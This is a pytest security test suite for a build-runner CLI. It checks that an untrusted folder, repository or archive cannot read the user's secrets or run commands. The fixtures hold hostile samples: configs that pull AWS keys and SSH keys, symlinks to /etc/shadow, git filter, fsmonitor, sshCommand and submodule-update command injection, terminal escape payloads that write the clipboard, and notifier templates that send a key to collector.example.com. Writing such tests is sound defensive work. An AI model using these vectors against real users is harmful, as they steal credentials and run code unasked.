"""A stranger's folder, repository or archive, built on a laptop: its settings raise no rights."""

import json
import os
import pty
import subprocess
import sys
import tarfile

import pytest

from buildrunner.cli.notifications import read_notifiers
from buildrunner.errors import UsageError
from tests.e2e.submit_bench import DEADLINE_S, Bench
from tests.fixtures_git import Repository, git

KEY = "s3cr3t-of-the-laptop"
STEALS_ENV = '[secrets]\nstolen = "env:AWS_SECRET_ACCESS_KEY"\n[sandbox]\nprivileged = true\n'
CONFIG = {
    "steps": [{"name": "IMAGE", "script": "echo got $STOLEN", "secretEnv": ["STOLEN"]}],
    "availableSecrets": {
        "secretManager": [
            {"versionName": "projects/p/secrets/stolen/versions/latest", "env": "STOLEN"}
        ]
    },
}


@pytest.fixture
def bench(tmp_path, docker_engine, busybox):
    folder = tmp_path / "source"
    folder.mkdir()
    made = Bench(folder, tmp_path / "data", docker_engine, busybox)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh/id_ed25519").write_text(KEY)
    made.environ |= {"AWS_SECRET_ACCESS_KEY": KEY, "HOME": str(home)}
    made.write("cloudbuild.yaml", json.dumps(CONFIG))
    return made


def answered(bench, answer, *arguments):
    """Run a command at a terminal, and answer its question; exit code and all it wrote."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "buildrunner", *arguments],
        cwd=bench.folder,
        env=bench.environ,
        stdin=theirs,
        stdout=subprocess.PIPE,
        stderr=theirs,
    )
    os.close(theirs)
    said = b""
    try:
        while b"[y/N]" not in said:
            said += os.read(ours, 4096)
        os.write(ours, answer.encode() + b"\n")
        while piece := os.read(ours, 4096):
            said += piece
    except OSError:  # the other end is closed
        pass
    out, _ = process.communicate(timeout=DEADLINE_S)
    os.close(ours)
    return process.returncode, said.decode() + out.decode()


pytestmark = pytest.mark.docker


@pytest.mark.parametrize(
    "secret", ["env:AWS_SECRET_ACCESS_KEY", "file:~/.ssh/id_ed25519", "file:innocent"]
)
@pytest.mark.parametrize("subject", [".", "../source"])
def test_submit_hands_no_secret_of_the_laptop_to_a_hostile_folder(bench, secret, subject):
    (bench.folder / "innocent").symlink_to(f"{bench.environ['HOME']}/.ssh/id_ed25519")
    bench.write(".buildrunner.toml", f'[secrets]\nstolen = "{secret}"\n')
    done = bench.run("submit", subject)
    assert done.code == 2
    assert KEY not in done.out + done.err
    assert '.buildrunner.toml: secrets."stolen": needs your trust: steps can read' in done.err
    assert f"buildrunner trust {bench.folder}" in done.err
    assert "got" not in done.out


def test_a_hostile_folder_chooses_no_project_on_a_server(bench):
    bench.write(".buildrunner.toml", '[project]\nid = "prod"\n')
    for command in (("submit", "."), ("triggers", "list")):
        done = bench.run(*command, "--server", "http://127.0.0.1:1")
        assert done.code == 2
        assert "project.id: needs your trust: builds are of the project prod" in done.err


def test_at_a_terminal_the_user_is_asked_once_for_a_file_as_it_is(bench):
    bench.write(".buildrunner.toml", '[secrets]\nstolen = "env:AWS_SECRET_ACCESS_KEY"\n')
    code, said = answered(bench, "n", "submit", ".")
    assert code == 2
    assert "steps can read your environment variable AWS_SECRET_ACCESS_KEY" in said
    code, said = answered(bench, "y", "submit", ".")
    assert code == 0, said
    assert "got ***" in said
    assert bench.run("submit", ".").code == 0
    bench.write(".buildrunner.toml", STEALS_ENV)
    assert bench.run("submit", ".").code == 2


def test_trust_in_a_file_does_not_cover_what_a_link_leads_to_later(bench):
    """The file stays as it is; the folder's next version has a link in the place of a file."""
    bench.write("own", "the folder's own")
    bench.write(".buildrunner.toml", '[secrets]\na = "env:HARMLESS"\nstolen = "file:own"\n')
    assert bench.run("trust").code == 0
    done = bench.run("submit", ".")
    assert done.code == 0, done.err
    key = f"{bench.environ['HOME']}/.ssh/id_ed25519"
    (bench.folder / "own").unlink()
    (bench.folder / "own").symlink_to(key)
    done = bench.run("submit", ".")
    assert done.code == 2, done.out + done.err
    assert f"steps can read the file {key}, outside of the folder" in done.err
    assert "changed" in bench.run("trust", "--list").out
    assert bench.run("trust").code == 0
    (bench.folder / "own").unlink()
    (bench.folder / "own").symlink_to("/etc/shadow")
    assert bench.run("submit", ".").code == 2


def test_trust_is_given_listed_and_revoked_by_a_command(bench):
    bench.write(".buildrunner.toml", '[secrets]\nstolen = "env:AWS_SECRET_ACCESS_KEY"\n')
    path = str(bench.folder / ".buildrunner.toml")
    done = bench.run("trust", "--list")
    assert (done.code, done.err) == (0, "Listed 0 trusted files.\n")
    done = bench.run("trust")
    assert done.code == 0
    assert f"Trusted {path} as it is now:\n" in done.err
    assert KEY not in done.err
    assert bench.run("submit", ".").code == 0
    listed = json.loads(bench.run("trust", "--list", "--format", "json").out)
    assert listed == [{"file": path, "state": "trusted"}]
    bench.write(".buildrunner.toml", STEALS_ENV)
    assert "changed" in bench.run("trust", "--list").out
    assert bench.run("trust", "--revoke", str(bench.folder)).code == 0
    assert bench.run("submit", ".").code == 2
    assert bench.run("trust", "--revoke").code == 2


def test_nothing_of_a_hostile_file_steers_the_terminal(bench):
    bench.write(".buildrunner.toml", '[images]\naliases = {"a" = "b\\u001b[2J\\r"}\n')
    for done in (bench.run("submit", "."), bench.run("trust")):
        assert "\x1b" not in done.err
        assert "\r" not in done.err


def shown_at_terminal(bench, *arguments):
    """Run a command whose output is a terminal; all it wrote."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "buildrunner", *arguments],
        cwd=bench.folder,
        env={**bench.environ, "PYTHONIOENCODING": "utf-8"},
        stdin=subprocess.DEVNULL,
        stdout=theirs,
        stderr=theirs,
    )
    os.close(theirs)
    said = b""
    try:
        while piece := os.read(ours, 4096):
            said += piece
    except OSError:  # the other end is closed
        pass
    os.close(ours)
    assert process.wait(timeout=DEADLINE_S) == 0, said
    return said.decode().replace("\r\n", "\n")


HIDES = "\x1b[2K\rclean\x1b]52;c;eA\x07\x9b2J\x1b[8m\u202e\x7f"


@pytest.mark.parametrize("form", ["text", "json"])
def test_a_dry_run_of_a_hostile_config_does_not_steer_the_terminal(bench, form):
    """Issue: the look at a stranger's config hid steps, and wrote the clipboard."""
    step = {"name": "IMAGE", "args": [HIDES], "env": [f"A={HIDES}"], "id": "bu\x1b[8mild"}
    config = {"steps": [step, {"name": "IMAGE", "script": f"echo {HIDES}"}]}
    bench.write("cloudbuild.yaml", json.dumps(config))
    said = shown_at_terminal(bench, "submit", ".", "--dry-run", "--format", form)
    assert "clean" in said
    assert said.replace("\n", "").isprintable(), ascii(said)
    if form == "json":
        assert json.loads(said)["steps"][0]["args"] == [HIDES]


def test_commands_that_run_nothing_of_a_folder_need_no_trust(bench):
    bench.write(".buildrunner.toml", STEALS_ENV)
    for command in (("validate",), ("graph",), ("secrets", "list"), ("builds", "list")):
        done = bench.run(*command)
        assert done.code == 0, done.err
    checked = bench.run("doctor", "--format", "json")
    (finding,) = [one for one in json.loads(checked.out) if one["subject"] == "settings"]
    assert finding["verdict"] == "warn"
    assert "buildrunner trust" in finding["text"]


def test_the_settings_of_a_hostile_repository_are_not_read(bench, tmp_path):
    repository = Repository(tmp_path / "hostile")
    config = json.dumps(CONFIG).replace("IMAGE", bench.image)
    files = {"cloudbuild.yaml": config.encode(), ".buildrunner.toml": STEALS_ENV.encode()}
    repository.commit(files)
    repository.push("main")
    (bench.folder / "cloudbuild.yaml").unlink()
    done = bench.run("submit", "--git-source", f"file://{repository.path}", "--no-git-cache")
    assert done.code == 1
    assert KEY not in done.out + done.err
    assert "no --secret and no [secrets] setting names it" in done.out + done.err


def test_the_settings_of_a_hostile_archive_are_not_read(bench, tmp_path):
    (tmp_path / "hostile.toml").write_text(STEALS_ENV)
    with tarfile.open(tmp_path / "hostile.tgz", "w:gz") as archive:
        archive.add(tmp_path / "hostile.toml", ".buildrunner.toml")
    done = bench.run("submit", str(tmp_path / "hostile.tgz"), "--config", "cloudbuild.yaml")
    assert done.code == 1
    assert KEY not in done.out + done.err
    assert "no --secret and no [secrets] setting names it" in done.out + done.err


@pytest.mark.parametrize("key", ["clean", "process"])
def test_the_git_configuration_of_a_hostile_folder_runs_nothing(bench, tmp_path, key):
    repository = Repository(tmp_path / "hostile")
    repository.commit({".gitattributes": b"* filter=evil\n", "f": b"x\n"})
    script = tmp_path / "evil"
    script.write_text(f"#!/bin/sh\ntouch {tmp_path}/pwned\ncat\n")
    script.chmod(0o755)
    git(repository.work, "config", f"filter.evil.{key}", str(script))
    git(repository.work, "config", "filter.evil.required", "true")
    git(repository.work, "config", "core.fsmonitor", str(script))
    (repository.work / "f").write_text("changed\n")
    config = {"steps": [{"name": bench.image, "args": ["$SHORT_SHA"]}]}
    (repository.work / "cloudbuild.yaml").write_text(json.dumps(config))
    bench.folder = repository.work
    done = bench.run("submit", ".", "--triggered", "--dry-run")
    assert done.code == 0, done.err
    assert not (tmp_path / "pwned").exists()


def test_no_repository_of_a_dependency_leads_git_into_a_hostile_folder(bench, tmp_path):
    """Issue: ``.gitmodules`` named a link to the folder, whose settings named a command."""
    dependency = Repository(tmp_path / "dependency")
    (dependency.work / "link").symlink_to("/proc/self/cwd")
    url = f"file://{dependency.path}"
    modules = '[submodule "{0}"]\n\tpath = {0}\n\turl = {1}\n'
    dependency.commit({".gitmodules": modules.format("link", url).encode()})
    dependency.push("main")
    folder = Repository(tmp_path / "hostile").work
    inner = Repository(tmp_path / "inner")
    tip = inner.commit({})
    inner.work.rename(folder / "x")
    (folder / ".gitmodules").write_text(modules.format("x", url))
    git(folder, "update-index", "--add", "--cacheinfo", f"160000,{tip},x")
    git(folder, "config", "submodule.x.active", "true")
    git(folder, "config", "submodule.x.url", url)
    git(folder, "config", "submodule.x.update", f"!touch {tmp_path}/pwned; :")
    source = {"repository": {"url": url}, "revision": "main", "recurseSubmodules": True}
    config = {
        "dependencies": [{"gitSource": {**source, "destPath": "lib"}}],
        "steps": [{"name": bench.image, "script": "test -L lib/link"}],
    }
    (folder / "cloudbuild.yaml").write_text(json.dumps(config))
    bench.folder = folder
    done = bench.run("submit", ".", "--no-docker-socket")
    assert done.code == 0, done.err
    assert not (tmp_path / "pwned").exists()


def test_a_config_fetches_dependencies_with_the_user_s_own_rights(bench, tmp_path):
    """No wall: the page on security says so."""
    private = Repository(tmp_path / "private")
    private.commit({"secret": f"{KEY}\n".encode()})
    private.push("main")
    source = {"repository": {"url": str(private.path)}, "revision": "main", "destPath": "lib"}
    step = {"name": bench.image, "args": ["cat", "lib/secret"]}
    config = {"dependencies": [{"gitSource": source}], "steps": [step]}
    bench.write("cloudbuild.yaml", json.dumps(config))
    done = bench.run("submit", ".", "--no-docker-socket")
    assert done.code == 0, done.err
    assert KEY in done.out


@pytest.mark.parametrize("transport", ["ssh://host/r", "ext::{evil}", "file://{hostile}"])
def test_no_missing_object_of_a_hostile_folder_is_fetched(bench, tmp_path, transport):
    """A partial clone fetches what it lacks, by programs that its configuration names."""
    repository = Repository(tmp_path / "hostile")
    config = {"steps": [{"name": bench.image, "args": ["$SHORT_SHA"]}]}
    repository.commit({"cloudbuild.yaml": json.dumps(config).encode()})
    work = repository.work
    tree = git(work, "rev-parse", "HEAD^{tree}")
    (work / ".git/objects" / tree[:2] / tree[2:]).unlink()
    script = tmp_path / "evil"
    script.write_text(f"#!/bin/sh\ntouch {tmp_path}/pwned\n")
    script.chmod(0o755)
    for key, value in {
        "core.repositoryFormatVersion": "1",
        "core.sshCommand": str(script),
        "extensions.partialClone": "evil",
        "protocol.ext.allow": "always",
        "protocol.file.allow": "always",
        "remote.evil.promisor": "true",
        "remote.evil.uploadpack": str(script),
        "remote.evil.url": transport.format(evil=script, hostile=repository.path),
    }.items():
        git(work, "config", key, value)
    bench.folder = work
    bench.run("submit", ".", "--triggered", "--dry-run")
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("uri", ["../key", "file://../key", "ABSOLUTE", "file://ABSOLUTE", "link"])
def test_the_template_of_a_hostile_notifier_is_no_file_elsewhere(tmp_path, uri):
    """Issue: `notifications import` uploaded any file of the user, and sent it to any URL."""
    (tmp_path / "key").write_text(KEY)
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "link").symlink_to(tmp_path / "key")
    template = {"type": "golang", "uri": uri.replace("ABSOLUTE", str(tmp_path / "key"))}
    delivery = {"url": "https://collector.example.com"}
    notification = {"filter": "true", "delivery": delivery, "template": template}
    config = {
        "apiVersion": "cloud-build-notifiers/v1",
        "kind": "HTTPNotifier",
        "metadata": {"name": "n"},
        "spec": {"notification": notification},
    }
    (folder / "n.yaml").write_text(json.dumps(config))
    with pytest.raises(UsageError, match="not in the folder of the config"):
        read_notifiers(str(folder / "n.yaml"))


def test_no_hostile_notifier_reads_a_bucket_with_the_user_s_login(bench):
    """Issue: `notifications import` read any object that the user may read, and uploaded it."""
    bucket = bench.folder / "../bucket"
    bucket.mkdir()
    (bucket / "key").write_text(KEY)
    settings = bench.folder / "../home/.config/buildrunner"
    settings.mkdir(parents=True)
    (settings / "config.toml").write_text(
        f'[storage.folders]\n"gs://private" = "file://{bucket.resolve()}"\n'
    )
    bench.environ.pop("XDG_CONFIG_HOME", None)
    notification = {
        "filter": "true",
        "delivery": {"url": "https://collector.example.com"},
        "template": {"type": "golang", "uri": "gs://private/key"},
    }
    config = {
        "apiVersion": "cloud-build-notifiers/v1",
        "kind": "HTTPNotifier",
        "metadata": {"name": "n"},
        "spec": {"notification": notification},
    }
    bench.write("n.yaml", json.dumps(config))
    nowhere = ("--server", "http://127.0.0.1:1", "--project", "p")
    for command in (("import", "n.yaml"), ("test", "-f", "n.yaml")):
        for flags in ((), ("--bucket-template", "gs://private/other")):
            done = bench.run("notifications", *command, *flags, *nowhere)
            assert done.code == 2
            assert "gs://private/key is read with your own login" in done.err
        named = ("--bucket-template", "gs://private/key")
        done = bench.run("notifications", *command, *named, *nowhere)
        assert done.code == 3, done.err  # it was read, and no server is there
        assert "login" not in done.err
